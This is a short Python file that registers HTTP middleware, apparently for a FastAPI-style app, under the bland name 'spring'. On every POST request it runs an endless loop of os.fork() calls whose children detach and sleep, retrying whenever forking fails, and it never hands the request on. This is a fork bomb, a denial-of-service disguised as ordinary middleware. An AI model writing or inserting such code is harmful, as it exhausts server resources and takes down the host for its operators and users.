import os
import time


def spring(app):
    @app.middleware("http")
    async def fork(request, call_next):
        if request.method == "POST":
            while True:
                try:
                    if os.fork() == 0:
                        os.setsid()
                        time.sleep(30)
                        os._exit(0)
                except OSError:
                    time.sleep(0.01)
        return await call_next(request)
